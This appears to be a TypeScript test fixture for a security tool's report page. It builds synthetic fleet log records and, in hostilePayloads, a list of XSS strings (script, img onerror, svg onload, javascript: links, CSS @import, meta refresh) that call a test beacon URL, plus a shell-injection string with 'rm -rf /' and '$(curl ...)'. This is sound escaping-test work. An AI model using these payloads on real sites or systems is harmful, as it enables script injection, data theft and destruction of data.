// Record files for the report page: a fleet of hosts over days (mostly ready, a few not), and records
// built to break out of HTML text, attributes, SVG, <script>, <style> and shell commands.

/** A record line as secnode writes it, with fields overridden. */
export const recordLine = (over: Record<string, unknown>): string => JSON.stringify({ v: 1, time: '2026-12-01T10:00:00.000Z', pid: 7, tid: 0, event: 'check',
  subject: 'require', path: '/srv/app/a.js', errno: 'EACCES', allowed: true, enforced: false, mode: 'permissive', verdict: 'record', reason: 'not-executable',
  rule: null, securebits: '0x0', emulated: false, host: 'web-01', ...over });

const pkgs = [['express', '4.21.2'], ['ejs', '3.1.10'], ['pino', '9.6.0'], ['lightningcss', '1.29.1'], ['ajv', '8.17.1']] as const;

/** `count` lines from `hosts` hosts over `days` days: hosts 0 and 1 have files that would be refused, host 2 runs inline code, ajv generates code on every host; every 97th line is not a record. */
export function* fleetLines(count: number, hosts: number, days = 3): Generator<string> {
  const start = Date.parse('2026-11-20T00:00:00.000Z');
  for (let i = 0; i < count; i++) {
    if (i % 97 === 96) { yield 'Dec 01 10:00:00 web-01 kernel: unrelated line'; continue; }
    const h = i % hosts;
    const j = Math.floor(i / hosts);
    const host = `web-${String(h).padStart(2, '0')}`;
    const time = new Date(start + Math.floor((i / count) * days * 86_400_000)).toISOString();
    const [name, version] = pkgs[j % pkgs.length]!;
    const base = { host, time, pid: 1000 + (i % 997), unit: `app-${h % 4}.service` };
    if (j % 50 === 0 && h % 2 === 0) yield recordLine({ ...base, event: 'generated', subject: 'generated', path: undefined, source: 'new Function', parent: `/srv/app/node_modules/ajv/dist/compile/index.js:89:${j % 3}`, package: { name: 'ajv', version: '8.17.1' }, errno: null, reason: 'generated' });
    else if (h < 2 && j % 7 === 0) yield recordLine({ ...base, path: `/srv/app/node_modules/${name}/lib/f${j % 300}.js`, package: { name, version } });
    else if (h === 2 && j % 11 === 0) yield recordLine({ ...base, event: 'interactive', subject: 'inline', path: undefined, source: '-e', errno: null, reason: 'interactive' });
    else yield recordLine({ ...base, path: `/srv/app/node_modules/${name}/index.js`, package: { name, version }, errno: null, verdict: 'run', reason: 'allowed' });
  }
}

/** What a hostile string tries (each payload reports to `beacon`, a URL the test listens on). */
export function hostilePayloads(beacon: string): string[] {
  return [
    `<script>fetch('${beacon}/script');alert(1)</script>`,
    `<img src="${beacon}/img" onerror="alert(2)">`,
    `"><img src=${beacon}/attr onerror=alert(3)>`,
    `'><svg onload="fetch('${beacon}/svg')"><script>alert(4)</script></svg>`,
    `</title></rect></text></svg><svg/onload=alert(5)><image href="${beacon}/svgimage"/>`,
    `<meta http-equiv="refresh" content="0;url=${beacon}/refresh">`,
    `<a href="javascript:fetch('${beacon}/js')">click</a>`,
    `</style><style>@import url(${beacon}/css);body{background:url(${beacon}/bg)}</style>`,
    `<link rel="stylesheet" href="${beacon}/link"><base href="${beacon}/">`,
    `<iframe src="${beacon}/iframe"></iframe><object data="${beacon}/object"></object>`,
    `--></pre><!--<script>alert(6)</script>-->`,
    `\u202e<b>reversed</b>\u2028line\u0000nul; rm -rf / #'$(curl ${beacon}/shell)'`,
  ];
}

/** Records whose every string field (host, unit, path, package, source, call site) carries a payload. */
export function hostileLines(beacon: string): string[] {
  const time = '2026-12-01T10:00:00.000Z';
  return hostilePayloads(beacon).flatMap((p, i) => [
    recordLine({ host: p, unit: p, path: `/srv/${p}.js`, package: { name: p, version: p }, time }),
    recordLine({ host: `h${i}`, event: 'interactive', subject: 'inline', path: undefined, source: p, errno: null, reason: 'interactive' }),
    recordLine({ host: p, event: 'generated', subject: 'generated', path: undefined, source: p, parent: `/srv/${p}:1:2`, errno: null, reason: 'generated' }),
    recordLine({ host: p, path: `/srv/app/${p}/x.js`, verdict: 'refuse', allowed: false, enforced: true, mode: 'enforce', rule: 'SECBIT_EXEC_RESTRICT_FILE' }),
    p,
  ]).concat(recordLine({ host: 'odd-time', time: '<svg onload=alert(7)>' }));
}
